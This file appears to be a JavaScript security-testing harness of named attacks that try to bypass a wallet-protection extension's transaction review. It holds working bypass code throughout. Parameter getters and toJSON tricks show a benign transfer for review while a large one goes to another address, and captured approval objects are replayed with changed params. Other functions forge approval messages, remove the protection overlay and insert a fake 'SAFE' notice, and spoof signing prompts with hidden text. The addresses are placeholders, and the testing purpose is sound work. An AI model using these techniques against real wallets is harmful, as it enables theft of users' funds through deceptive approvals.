var ADDR = '0x1111111111111111111111111111111111111111';
window.__res = [];
window.__obs = [];
function R(label, v){ window.__res.push(label + ': ' + (typeof v === 'string' ? v : (function(){ try { return JSON.stringify(v); } catch(e){ return String(v); } })())); }
function PS(){ return {method:'personal_sign', params:['0x6d616c6963696f7573', ADDR]}; }
function TX(){ return {method:'eth_sendTransaction', params:[{from:ADDR, to:'0x2222222222222222222222222222222222222222', value:'0xde0b6b3a7640000'}]}; }
function track(label, p){
  try {
    Promise.resolve(p).then(function(v){ R(label, 'RESOLVED ' + JSON.stringify(v)); }, function(e){ R(label, 'REJECTED code=' + (e && e.code) + ' msg=' + (e && e.message)); });
  } catch(e){ R(label, 'THROW ' + e.message); }
}
function tryit(label, fn){ try { track(label, fn()); } catch(e){ R(label, 'THROW ' + e.message); } }
function cb(label){ return function(err, res){ R(label, 'CB err=' + (err && (err.code+' '+err.message)) + ' res=' + JSON.stringify(res)); }; }
function sleep(ms){ return new Promise(function(r){ setTimeout(r, ms); }); }
// recon observers
window.addEventListener('message', function(e){ var d; try { d = JSON.stringify(e.data).slice(0,300); } catch(x){ d = String(e.data); } window.__obs.push('message origin=' + e.origin + ' data=' + d); }, true);
new MutationObserver(function(ms){ ms.forEach(function(m){ m.addedNodes.forEach(function(n){ window.__obs.push('DOM added ' + n.nodeName + (n.id ? '#'+n.id : '') + ' ' + (n.outerHTML||'').slice(0,200)); }); }); }).observe(document.documentElement, {childList:true, subtree:true});

var A = {};
A.base_request = function(){ tryit('personal_sign', function(){ return ethereum.request(PS()); }); };
A.base_tx = function(){ tryit('eth_sendTransaction', function(){ return ethereum.request(TX()); }); };
A.base_typed = function(){ tryit('typedv4', function(){ return ethereum.request({method:'eth_signTypedData_v4', params:[ADDR, JSON.stringify({types:{EIP712Domain:[]}, domain:{}, primaryType:'EIP712Domain', message:{}})]}); }); };
A.base_sendCalls = function(){ tryit('wallet_sendCalls', function(){ return ethereum.request({method:'wallet_sendCalls', params:[{version:'1.0', chainId:'0x1', from:ADDR, calls:[{to:'0x2222222222222222222222222222222222222222', value:'0x1'}]}]}); }); };
A.base_read = function(){ tryit('eth_accounts', function(){ return ethereum.request({method:'eth_accounts'}); }); tryit('eth_chainId', function(){ return ethereum.request({method:'eth_chainId'}); }); };
A.recon = function(){
  R('typeof ethereum', typeof window.ethereum);
  R('window.ethereum desc', (function(){ var d = Object.getOwnPropertyDescriptor(window,'ethereum'); return d ? Object.keys(d).map(function(k){ return k+'='+(typeof d[k]==='function'?'fn':String(d[k]).slice(0,40)); }).join(',') : 'none'; })());
  R('own keys', Reflect.ownKeys(ethereum).map(String));
  R('proto chain', (function(){ var o = Object.getPrototypeOf(ethereum), out=[]; while(o){ out.push(Reflect.ownKeys(o).map(String).join('|')); o = Object.getPrototypeOf(o);} return out; })());
  R('request.toString', String(ethereum.request).slice(0,200));
  R('request === proto.request', ethereum.request === Object.getPrototypeOf(ethereum).request);
  R('isFakeWallet', ethereum.isFakeWallet);
};
A.proto_request = function(){
  var o = ethereum, i = 0;
  while (o){ var d = Object.getOwnPropertyDescriptor(o, 'request'); if (d && typeof d.value === 'function'){ (function(f, lvl){ tryit('proto lvl'+lvl+' request', function(){ return f.call(ethereum, PS()); }); })(d.value, i); } o = Object.getPrototypeOf(o); i++; }
  var P = Object.getPrototypeOf(ethereum);
  ['send','sendAsync'].forEach(function(k){ if (P && typeof P[k]==='function'){ try { P[k].call(ethereum, {id:7, jsonrpc:'2.0', method:'personal_sign', params:PS().params}, cb('proto '+k)); } catch(e){ R('proto '+k, 'THROW '+e.message);} } });
};
A.desc_reflect_bind = function(){
  var d = Object.getOwnPropertyDescriptor(ethereum, 'request');
  R('own desc', d ? Object.keys(d).join(',') : 'none');
  if (d && d.value) tryit('desc.value', function(){ return d.value.call(ethereum, PS()); });
  if (d && d.get) tryit('desc.get()', function(){ return d.get.call(ethereum).call(ethereum, PS()); });
  tryit('Reflect.apply', function(){ return Reflect.apply(Reflect.get(ethereum,'request'), ethereum, [PS()]); });
  tryit('bind', function(){ return ethereum.request.bind(ethereum)(PS()); });
  tryit('detached this=undefined', function(){ var r = ethereum.request; return r(PS()); });
  tryit('this={}', function(){ return ethereum.request.call({}, PS()); });
  tryit('Function.prototype.call.call', function(){ return Function.prototype.call.call(ethereum.request, ethereum, PS()); });
};
A.legacy = function(){
  tryit('send(str)', function(){ return ethereum.send('personal_sign', PS().params); });
  try { ethereum.send({id:1, jsonrpc:'2.0', method:'personal_sign', params:PS().params}, cb('send(payload,cb)')); } catch(e){ R('send(payload,cb)','THROW '+e.message); }
  try { ethereum.sendAsync({id:2, jsonrpc:'2.0', method:'personal_sign', params:PS().params}, cb('sendAsync')); } catch(e){ R('sendAsync','THROW '+e.message); }
  try { R('send(sync)', JSON.stringify(ethereum.send({id:3, jsonrpc:'2.0', method:'personal_sign', params:PS().params}))); } catch(e){ R('send(sync)','THROW '+e.message); }
};
A.batch_mixed = function(){
  try { ethereum.sendAsync([{id:1, jsonrpc:'2.0', method:'eth_accounts'}, {id:2, jsonrpc:'2.0', method:'personal_sign', params:PS().params}], cb('sendAsync batch')); } catch(e){ R('sendAsync batch','THROW '+e.message); }
  try { ethereum.send([{id:3, jsonrpc:'2.0', method:'eth_chainId'}, {id:4, jsonrpc:'2.0', method:'eth_sendTransaction', params:TX().params}], cb('send batch')); } catch(e){ R('send batch','THROW '+e.message); }
  tryit('request with array args', function(){ return ethereum.request([{method:'eth_accounts'}, PS()]); });
};
A.casing = function(){
  ['Personal_sign','PERSONAL_SIGN',' personal_sign','personal_sign ','personal_sign\u0000','personal_sign\n','eth_SendTransaction','ETH_SIGNTYPEDDATA_V4','personal\u200bsign'].forEach(function(m){ tryit('method '+JSON.stringify(m), function(){ return ethereum.request({method:m, params:PS().params}); }); });
  tryit('method String obj', function(){ return ethereum.request({method:new String('personal_sign'), params:PS().params}); });
  tryit('method array', function(){ return ethereum.request({method:['personal_sign'], params:PS().params}); });
  tryit('method toString obj', function(){ return ethereum.request({method:{toString:function(){ return 'personal_sign'; }}, params:PS().params}); });
};
A.other_methods = function(){
  ['eth_sign','eth_signTypedData','eth_signTypedData_v1','eth_signTypedData_v3','eth_signTransaction','eth_sendRawTransaction','wallet_invokeSnap','wallet_snap','wallet_requestSnaps','eth_decrypt','eth_getEncryptionPublicKey','wallet_grantPermissions','eth_sendUserOperation','wallet_sendTransaction','wallet_requestPermissions','wallet_addEthereumChain','wallet_switchEthereumChain','wallet_watchAsset','personal_ecRecover','eth_requestAccounts','wallet_signTypedData','eth_signUserOperation','wallet_sign','eth_batchSendTransaction'].forEach(function(m){
    tryit(m, function(){ return ethereum.request({method:m, params:[ADDR, '0x6d616c']}); });
  });
};
A.proxy_args_recon = function(){
  var acc = [];
  var target = PS();
  var p = new Proxy(target, { get: function(t,k,r){ acc.push('get '+String(k)); return Reflect.get(t,k,r); }, ownKeys: function(t){ acc.push('ownKeys'); return Reflect.ownKeys(t); }, getOwnPropertyDescriptor: function(t,k){ acc.push('gopd '+String(k)); return Reflect.getOwnPropertyDescriptor(t,k); }, has: function(t,k){ acc.push('has '+String(k)); return Reflect.has(t,k); } });
  tryit('proxy args', function(){ return ethereum.request(p); });
  setTimeout(function(){ R('proxy trap log', acc.join(', ')); }, 1500);
};
A.getter_method = function(){
  [1,2,3,4,5,6].forEach(function(n){
    var c = 0;
    tryit('getter method flips after '+n, function(){ return ethereum.request({ get method(){ c++; return c <= n ? 'eth_accounts' : 'personal_sign'; }, params: PS().params }); });
  });
};
A.getter_params = function(){ // run with Continue click: review shows benign, wallet gets malicious?
  var c = 0;
  tryit('getter params', function(){ return ethereum.request({ method:'eth_sendTransaction', get params(){ c++; return c <= 1 ? [{from:ADDR, to:'0x2222222222222222222222222222222222222222', value:'0x1'}] : [{from:ADDR, to:'0x6666666666666666666666666666666666666666', value:'0xffffffffffffffffffff'}]; } }); });
  setTimeout(function(){ R('params getter calls', c); }, 3000);
};
A.tojson_params = function(){ // run with Continue click
  var inner = {from:ADDR, to:'0x6666666666666666666666666666666666666666', value:'0xffffffffffffffffffff', toJSON:function(){ return {from:ADDR, to:'0x2222222222222222222222222222222222222222', value:'0x1'}; }};
  tryit('toJSON params', function(){ return ethereum.request({method:'eth_sendTransaction', params:[inner]}); });
};
A.mutate_after = function(){ // mutate params after request called, before user clicks
  var args = TX();
  tryit('mutate after', function(){ return ethereum.request(args); });
  setTimeout(function(){ args.params[0].to = '0x6666666666666666666666666666666666666666'; args.params[0].value = '0xffffffffffffffffffff'; args.method = 'eth_sendTransaction'; }, 300);
};
A.weird_params = function(){
  var cyc = {from:ADDR}; cyc.self = cyc;
  tryit('cyclic params', function(){ return ethereum.request({method:'eth_sendTransaction', params:[cyc]}); });
  tryit('bigint params', function(){ return ethereum.request({method:'eth_sendTransaction', params:[{from:ADDR, value: 10n}]}); });
  var deep = {}; var cur = deep; for (var i=0;i<20000;i++){ cur.a = {}; cur = cur.a; }
  tryit('deep params', function(){ return ethereum.request({method:'eth_signTypedData_v4', params:[ADDR, deep]}); });
  tryit('huge params 20MB', function(){ return ethereum.request({method:'personal_sign', params:['0x'+'ab'.repeat(10*1024*1024), ADDR]}); });
  tryit('params throwing getter', function(){ return ethereum.request({method:'personal_sign', get params(){ throw new Error('boom'); }}); });
  tryit('id/jsonrpc fields', function(){ return ethereum.request({id:99, jsonrpc:'2.0', method:'personal_sign', params:PS().params}); });
  tryit('args with __proto__ method', function(){ return ethereum.request(Object.create({method:'personal_sign', params:PS().params})); });
};
function patchTest(label, patch, restore){
  return function(){ var st = patch(); tryit(label, function(){ return ethereum.request(PS()); }); tryit(label+' tx', function(){ return ethereum.request(TX()); }); setTimeout(function(){ restore(st); }, 2500); };
}
A.patch_includes = patchTest('Array.includes/indexOf/Set.has/Map.has false', function(){ var s = [Array.prototype.includes, Array.prototype.indexOf, Set.prototype.has, Map.prototype.has, Array.prototype.some, Array.prototype.find]; Array.prototype.includes = function(){ return false; }; Array.prototype.indexOf = function(){ return -1; }; Set.prototype.has = function(){ return false; }; Map.prototype.has = function(){ return false; }; Array.prototype.some = function(){ return false; }; Array.prototype.find = function(){ return undefined; }; return s; }, function(s){ Array.prototype.includes = s[0]; Array.prototype.indexOf = s[1]; Set.prototype.has = s[2]; Map.prototype.has = s[3]; Array.prototype.some = s[4]; Array.prototype.find = s[5]; });
A.patch_string = patchTest('String/RegExp/hasOwnProperty patched', function(){ var s = [String.prototype.startsWith, String.prototype.toLowerCase, RegExp.prototype.test, Object.prototype.hasOwnProperty, String.prototype.includes, RegExp.prototype.exec, String.prototype.trim]; String.prototype.startsWith = function(){ return false; }; String.prototype.toLowerCase = function(){ return 'eth_accounts'; }; String.prototype.trim = function(){ return 'eth_accounts'; }; RegExp.prototype.test = function(){ return false; }; RegExp.prototype.exec = function(){ return null; }; Object.prototype.hasOwnProperty = function(){ return false; }; String.prototype.includes = function(){ return false; }; return s; }, function(s){ String.prototype.startsWith = s[0]; String.prototype.toLowerCase = s[1]; RegExp.prototype.test = s[2]; Object.prototype.hasOwnProperty = s[3]; String.prototype.includes = s[4]; RegExp.prototype.exec = s[5]; String.prototype.trim = s[6]; });
A.patch_json = patchTest('JSON/structuredClone patched', function(){ var s = [JSON.stringify, JSON.parse, window.structuredClone]; JSON.stringify = function(){ return '{"method":"eth_accounts"}'; }; JSON.parse = function(){ return {method:'eth_accounts'}; }; window.structuredClone = function(){ return {method:'eth_accounts'}; }; return s; }, function(s){ JSON.stringify = s[0]; JSON.parse = s[1]; window.structuredClone = s[2]; });
A.patch_promise = patchTest('Promise/then patched', function(){ var s = [window.Promise, Promise.prototype.then]; var origThen = Promise.prototype.then; Promise.prototype.then = function(a, b){ window.__obs.push('then called'); return origThen.call(this, a, b); }; return s; }, function(s){ window.Promise = s[0]; Promise.prototype.then = s[1]; });
A.patch_events = patchTest('EventTarget/CustomEvent/postMessage patched', function(){
  var s = [EventTarget.prototype.dispatchEvent, EventTarget.prototype.addEventListener, window.CustomEvent, window.postMessage, MessagePort.prototype.postMessage];
  var oD = s[0], oP = s[3], oMP = s[4];
  EventTarget.prototype.dispatchEvent = function(e){ var d; try { d = JSON.stringify(e.detail); } catch(x){ d = String(e.detail); } window.__obs.push('dispatchEvent '+e.type+' detail='+String(d).slice(0,200)); return oD.call(this, e); };
  window.postMessage = function(m){ window.__obs.push('window.postMessage '+JSON.stringify(m).slice(0,200)); return oP.apply(this, arguments); };
  MessagePort.prototype.postMessage = function(m){ window.__obs.push('port.postMessage '+JSON.stringify(m).slice(0,200)); return oMP.apply(this, arguments); };
  return s; }, function(s){ EventTarget.prototype.dispatchEvent = s[0]; window.postMessage = s[3]; MessagePort.prototype.postMessage = s[4]; });
A.patch_call_apply = function(){
  var caught = [];
  var oc = Function.prototype.call, oa = Function.prototype.apply, ob = Function.prototype.bind, ora = Reflect.apply;
  function note(f, t){ if (typeof f === 'function' && caught.length < 200 && caught.indexOf(f) < 0){ caught.push(f); caught.push(t); } }
  Function.prototype.call = function(t, ...args){ note(this, t); return ora(this, t, args); };
  Function.prototype.apply = function(t, a){ note(this, t); return ora(this, t, a || []); };
  Function.prototype.bind = function(t, ...rest){ note(this, t); return ora(ob, this, [t, ...rest]); };
  Reflect.apply = function(f, t, a){ note(f, t); return ora(f, t, a); };
  var p; try { p = ethereum.request({method:'eth_accounts'}); } catch(e){ R('eth_accounts', 'THROW '+e.message); }
  Promise.resolve(p).then(function(){ return sleep(300); }).then(function(){
    Function.prototype.call = oc; Function.prototype.apply = oa; Function.prototype.bind = ob; Reflect.apply = ora;
    var names = [];
    for (var i=0;i<caught.length;i+=2){ var f = caught[i]; var src = ''; try { src = Function.prototype.toString.call(f).slice(0,60); } catch(e){} names.push(f.name + ':' + src.replace(/\s+/g,' ')); }
    R('captured fns', names);
    for (var j=0;j<caught.length;j+=2){ var fn = caught[j]; if (fn === ethereum.request) continue; if (/request/.test(fn.name) || /rec\('request'/.test(Function.prototype.toString.call(fn))){ (function(fn, t){ tryit('captured '+fn.name, function(){ return fn.call(t && t.request ? t : ethereum, PS()); }); })(fn, caught[j+1]); } }
  });
};
A.e6963_listener = function(){
  var got = [];
  window.addEventListener('eip6963:announceProvider', function(e){ got.push(e.detail.provider); }, true);
  window.dispatchEvent(new Event('eip6963:requestProvider'));
  setTimeout(function(){
    R('announced count', got.length);
    got.forEach(function(p, i){ R('provider'+i+' === ethereum', p === window.ethereum); R('provider'+i+' isFake', !!p.isFakeWallet); tryit('6963 provider'+i+' personal_sign', function(){ return p.request(PS()); }); });
  }, 300);
};
A.e6963_dispatch_patch = function(){
  var got = [];
  var oD = EventTarget.prototype.dispatchEvent, oCE = window.CustomEvent, oF = Object.freeze;
  EventTarget.prototype.dispatchEvent = function(e){ if (e && e.type === 'eip6963:announceProvider' && e.detail) got.push(['dispatch', e.detail.provider]); return oD.call(this, e); };
  window.CustomEvent = function(type, init){ if (init && init.detail && init.detail.provider) got.push(['CustomEvent', init.detail.provider]); return new oCE(type, init); };
  window.CustomEvent.prototype = oCE.prototype;
  Object.freeze = function(o){ if (o && o.provider) got.push(['freeze', o.provider]); return oF(o); };
  window.dispatchEvent(new Event('eip6963:requestProvider'));
  setTimeout(function(){
    EventTarget.prototype.dispatchEvent = oD; window.CustomEvent = oCE; Object.freeze = oF;
    R('captured count', got.length);
    got.forEach(function(g, i){ R(g[0]+' provider'+i+' === ethereum', g[1] === window.ethereum); tryit(g[0]+' captured provider'+i+' personal_sign', function(){ return g[1].request(PS()); }); });
  }, 300);
};
A.second_6963 = function(){
  // page announces its own provider wrapping window.ethereum: make sure nothing odd; also re-announce wallet's own provider object under a different uuid
  var fake = { request: function(a){ return window.ethereum.request(a); } };
  window.dispatchEvent(new CustomEvent('eip6963:announceProvider', {detail:{info:{uuid:'x', name:'Evil', icon:'data:,', rdns:'evil'}, provider: fake}}));
  tryit('via page-announced', function(){ return fake.request(PS()); });
};
A.redefine_ethereum = function(){
  var before = window.ethereum;
  try { delete window.ethereum; } catch(e){ R('delete','THROW '+e.message); }
  R('after delete typeof', typeof window.ethereum);
  try { window.ethereum = before; } catch(e){ R('reassign','THROW '+e.message); }
  tryit('after reassign', function(){ return window.ethereum.request(PS()); });
  try { Object.defineProperty(window, 'ethereum', {value: before, configurable:true, writable:true}); R('defineProperty', 'ok'); } catch(e){ R('defineProperty','THROW '+e.message); }
  tryit('after defineProperty', function(){ return window.ethereum.request(PS()); });
};
A.cross_realm = function(){
  var f = document.createElement('iframe'); document.body.appendChild(f);
  var W = f.contentWindow;
  var arr = new W.Array(); arr.push(new W.Object()); arr[0].id = 1; arr[0].jsonrpc='2.0'; arr[0].method='personal_sign'; arr[0].params = new W.Array('0x6d61', ADDR);
  try { ethereum.sendAsync(arr, cb('sendAsync foreign-realm array')); } catch(e){ R('sendAsync foreign array','THROW '+e.message); }
  var o = new W.Object(); o.method = 'personal_sign'; o.params = new W.Array('0x6d61', ADDR);
  tryit('request foreign-realm args', function(){ return ethereum.request(o); });
  tryit('iframe Function.call', function(){ return W.Function.prototype.call.call(ethereum.request, ethereum, PS()); });
  R('iframe has own ethereum', typeof W.ethereum);
};
A.frames = function(){
  var wsrc = window.__WALLET_SRC;
  var atk = "<script>setTimeout(function(){try{window.ethereum.request({method:'personal_sign',params:['0x6d61','"+ADDR+"']}).then(function(v){parent.postMessage('frame RESOLVED '+v,'*')},function(e){parent.postMessage('frame REJECTED '+e.code,'*')})}catch(e){parent.postMessage('frame THROW '+e.message,'*')}},300)<\/script>";
  var html = "<html><head><script>" + wsrc + "<\/script>" + atk + "</head><body>f</body></html>";
  function mk(attrs){ var f = document.createElement('iframe'); for (var k in attrs) f.setAttribute(k, attrs[k]); document.body.appendChild(f); return f; }
  mk({src:'/frame.html', name:'sameorigin'});
  mk({srcdoc: html, name:'srcdoc'});
  mk({srcdoc: html, sandbox:'allow-scripts', name:'sandboxed-srcdoc'});
  mk({src: 'data:text/html,' + encodeURIComponent(html), name:'data'});
  mk({src: URL.createObjectURL(new Blob([html], {type:'text/html'})), name:'blob'});
  var ab = mk({name:'aboutblank'}); ab.contentDocument.open(); ab.contentDocument.write(html); ab.contentDocument.close();
  var ab2 = mk({name:'aboutblank-eval'}); try { ab2.contentWindow.eval(wsrc); track('about:blank eval-injected', ab2.contentWindow.ethereum.request(PS())); } catch(e){ R('ab2', 'THROW '+e.message); }
  window.addEventListener('message', function(e){ if (typeof e.data === 'string' && e.data.indexOf('frame ')===0) R('from frame '+(e.source && e.source.name || '?'), e.data); });
};
A.popup = function(){
  var wsrc = window.__WALLET_SRC;
  var w = window.open('about:blank', 'pop1');
  if (!w) { R('popup', 'blocked'); return; }
  try { w.eval(wsrc); track('popup about:blank personal_sign', w.ethereum.request(PS())); } catch(e){ R('popup', 'THROW '+e.message); }
  var w2 = window.open('/frame.html', 'pop2');
  R('popup2', !!w2);
};
A.tight_loop = function(){
  for (var i=0;i<25;i++) tryit('loop '+i, function(){ return ethereum.request(PS()); });
};
A.concurrent = function(){ // Continue clicked on first review only
  tryit('first (benign tx)', function(){ return ethereum.request({method:'eth_sendTransaction', params:[{from:ADDR, to:'0x2222222222222222222222222222222222222222', value:'0x1'}]}); });
  setTimeout(function(){ tryit('second (malicious tx)', function(){ return ethereum.request({method:'eth_sendTransaction', params:[{from:ADDR, to:'0x6666666666666666666666666666666666666666', value:'0xffffffffffffffffffff'}]}); }); }, 50);
};
A.forge_decision = function(){
  // replay all observed postMessage traffic with approval-ish mutations
  tryit('forge target', function(){ return ethereum.request(PS()); });
  setTimeout(function(){
    var seen = window.__obs.filter(function(s){ return s.indexOf('message ')===0; });
    R('observed messages', seen);
    ['approved','approve','continue','ok','allow'].forEach(function(w){
      window.postMessage({type:'mamori:decision', decision:w, approved:true, id:1}, '*');
    });
    document.dispatchEvent(new CustomEvent('mamori', {detail:{approved:true}}));
  }, 800);
};
A.document_start_race = function(){ /* real work is done in the inline head script */ };
window.ATTACKS = A;
A.tostring = function(){ R('request src', String(ethereum.request)); R('send src', String(ethereum.send)); R('sendAsync src', String(ethereum.sendAsync)); };
A.leak_token = function(){ // action continue1: user approves ONE benign tx
  var caps = [], oIA = Array.isArray;
  Array.isArray = function(x){ if (x && typeof x === 'object' && caps.indexOf(x) < 0) caps.push(x); return oIA(x); };
  var p = ethereum.request({method:'eth_sendTransaction', params:[{from:ADDR, to:'0x2222222222222222222222222222222222222222', value:'0x1'}]});
  track('approved benign tx', p);
  Promise.resolve(p).then(function(){
    Array.isArray = oIA;
    R('captured objs', caps.length);
    caps.forEach(function(c, i){ R('cap'+i, {json: JSON.stringify(c).slice(0,200), frozen: Object.isFrozen(c), paramsFrozen: c.params && Object.isFrozen(c.params), syms: Object.getOwnPropertySymbols(c).map(String), proto: Object.getPrototypeOf(c) === Object.prototype ? 'Object.prototype' : String(Object.getPrototypeOf(c))}); });
    var tok = caps.filter(function(c){ return c && c.method === 'eth_sendTransaction'; })[0];
    if (!tok) { R('no token', ''); return; }
    tryit('replay token as-is', function(){ return ethereum.request(tok); });
    try { tok.method = 'eth_sendTransaction'; tok.params = [{from:ADDR, to:'0x6666666666666666666666666666666666666666', value:'0xffffffffffffffffffff'}]; R('mutate token', 'ok'); } catch(e){ R('mutate token','THROW '+e.message); }
    tryit('replay mutated token', function(){ return ethereum.request(tok); });
    var tok2 = caps.filter(function(c){ return c && c.method === 'eth_sendTransaction'; })[0];
    try { var pr = caps.filter(function(c){ return oIA(c) && c[0] && c[0].to; })[0]; if (pr) { tryit('personal_sign with leaked params array', function(){ return ethereum.request({method:'personal_sign', params: pr}); }); try { pr[0].to = '0x6666666666666666666666666666666666666666'; pr[0].value = '0xfff'; } catch(e){ R('mutate params', 'THROW '+e.message); } tryit('tx with leaked+mutated params array', function(){ return ethereum.request({method:'eth_sendTransaction', params: pr}); }); } else R('no params array captured',''); } catch(e){ R('params path', 'THROW '+e.message); }
    try { ethereum.sendAsync(tok, cb('sendAsync token')); } catch(e){ R('sendAsync token', 'THROW '+e.message); }
  });
};
A.leak_nonsigning = function(){ // no approval: can a NON-signing forward give an m-true object?
  var caps = [], oIA = Array.isArray;
  Array.isArray = function(x){ if (x && typeof x === 'object' && caps.indexOf(x) < 0) caps.push(x); return oIA(x); };
  var p = ethereum.request({method:'eth_accounts', params:[]});
  Promise.resolve(p).then(function(){
    Array.isArray = oIA;
    R('captured', caps.map(function(c){ return JSON.stringify(c); }));
    caps.forEach(function(c, i){ if (!oIA(c)) { try { c.method = 'personal_sign'; c.params = ['0x6d61', ADDR]; } catch(e){} tryit('reuse cap'+i+' as personal_sign', function(){ return ethereum.request(c); }); } else { tryit('cap'+i+' as params', function(){ c.push('0x6d61'); return ethereum.request({method:'personal_sign', params:c}); }); } });
  });
};
A.json_method = function(){
  tryit('method String obj', function(){ return ethereum.request({method:new String('personal_sign'), params:PS().params}); });
  tryit('method toJSON obj', function(){ return ethereum.request({method:{toJSON:function(){ return 'eth_sendTransaction'; }}, params:TX().params}); });
  tryit('method String obj tx', function(){ return ethereum.request({method:new String('eth_sendTransaction'), params:TX().params}); });
};
A.notice_probe = function(){
  tryit('request', function(){ return ethereum.request(PS()); });
  setTimeout(function(){
    var el = document.querySelector('mamori-shield');
    if (!el) { R('shield', 'none'); return; }
    R('shield shadowRoot', el.shadowRoot ? 'OPEN: ' + el.shadowRoot.innerHTML.slice(0,300) : 'null (closed or none)');
    R('shield outer', el.outerHTML.slice(0,200));
    R('shield rect', JSON.stringify(el.getBoundingClientRect()));
    var cs = getComputedStyle(el); R('shield style', cs.display + ' ' + cs.position + ' z=' + cs.zIndex);
    el.style.setProperty('display', 'none', 'important'); R('hidden via style', getComputedStyle(el).display);
    el.remove(); R('removed, still in DOM', !!document.querySelector('mamori-shield'));
    var fake = document.createElement('mamori-shield'); fake.textContent = 'Mamori: this request was reviewed and is SAFE'; document.body.appendChild(fake); R('fake shield inserted', true);
  }, 1000);
};
A.xorigin_frame = function(){
  var f = document.createElement('iframe'); f.src = 'http://localhost:' + location.port + '/frame.html'; document.body.appendChild(f);
  window.addEventListener('message', function(e){ if (typeof e.data === 'string' && e.data.indexOf('frame ')===0) R('from xorigin frame', e.data); });
};
A.spoof_message = function(){
  var msg = 'Sign in to 127.0.0.1\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nI authorize transfer of all my NFTs. \u202Etxet desrever\u202C';
  var hex = '0x' + Array.from(new TextEncoder().encode(msg)).map(function(b){ return b.toString(16).padStart(2,'0'); }).join('');
  tryit('spoof personal_sign', function(){ return ethereum.request({method:'personal_sign', params:[hex, ADDR]}); });
  tryit('swapped personal_sign params', function(){ return ethereum.request({method:'personal_sign', params:[ADDR, '0x68656c6c6f']}); });
};
// installed at page load (before a LATE wallet injects)
if (/t=late_preempt/.test(location.search)) {
  window.__raw = [];
  var __slot;
  Object.defineProperty(window, 'ethereum', { configurable: true, enumerable: true, get: function(){ return __slot; }, set: function(v){ window.__raw.push(['setter', v]); __slot = v; } });
  window.addEventListener('eip6963:announceProvider', function(e){ window.__raw.push(['6963', e.detail.provider]); }, true);
}
A.late_preempt = function(){
  R('raw captured', window.__raw.length);
  window.__raw.forEach(function(x, i){ tryit(x[0]+' raw'+i+' personal_sign', function(){ return x[1].request(PS()); }); });
};
if (/t=late_freeze/.test(location.search)) {
  window.__raw = [];
  var __slot2;
  var frz = function(v){ try { var p = Object.getPrototypeOf(v); if (p && p !== Object.prototype) Object.freeze(p); Object.freeze(v); } catch(e){ window.__raw.push(['freezeErr', e.message]); } };
  Object.defineProperty(window, 'ethereum', { configurable: true, enumerable: true, get: function(){ return __slot2; }, set: function(v){ frz(v); window.__raw.push(['setter', v]); __slot2 = v; } });
  window.addEventListener('eip6963:announceProvider', function(e){ frz(e.detail.provider); window.__raw.push(['6963', e.detail.provider]); }, true);
}
A.late_freeze = function(){
  R('raw captured', window.__raw.length);
  window.__raw.forEach(function(x, i){ if (x[0] === 'freezeErr') { R('freezeErr', x[1]); return; } tryit(x[0]+' raw'+i+' personal_sign', function(){ return x[1].request(PS()); }); });
  tryit('window.ethereum personal_sign', function(){ return window.ethereum.request(PS()); });
};
